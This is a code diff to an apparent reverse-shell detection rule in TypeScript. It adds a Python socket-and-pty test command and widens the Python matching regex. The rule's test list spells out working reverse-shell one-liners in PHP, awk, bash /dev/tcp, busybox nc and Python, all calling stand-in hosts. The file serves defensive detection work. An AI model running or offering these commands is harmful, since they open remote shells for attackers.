@@ -26,6 +26,7 @@ const reverseShell: Rule = {
     'php -r \'$s=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
     "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.7/4444\"; while (1) { s |& getline c; c | getline }}'",
     "exec 5<>/dev/tcp/203.0.113.7/4444; sh <&5 >&5 2>&5",
+    "python3 -c \"import socket,os,pty; s=socket.create_connection(('203.0.113.5',9001)); [os.dup2(s.fileno(),i) for i in range(3)]; pty.spawn('/bin/sh')\"",
     "busybox nc 203.0.113.7 4444 -e sh",
   ],
   mustAllow: [
@@ -55,7 +56,7 @@ function givesShell(effect: Effect): boolean {
   if (/^python[\d.]*$/.test(program))
     return (
       /\bsocket\b/.test(text) &&
-      /\bconnect\b/.test(text) &&
+      /\b(create_)?connect(ion|_ex)?\b/.test(text) &&
       /\bdup2\b|\bpty\b|\bsubprocess\b|os\.(system|popen)/.test(text)
     );
   if (program === "perl")
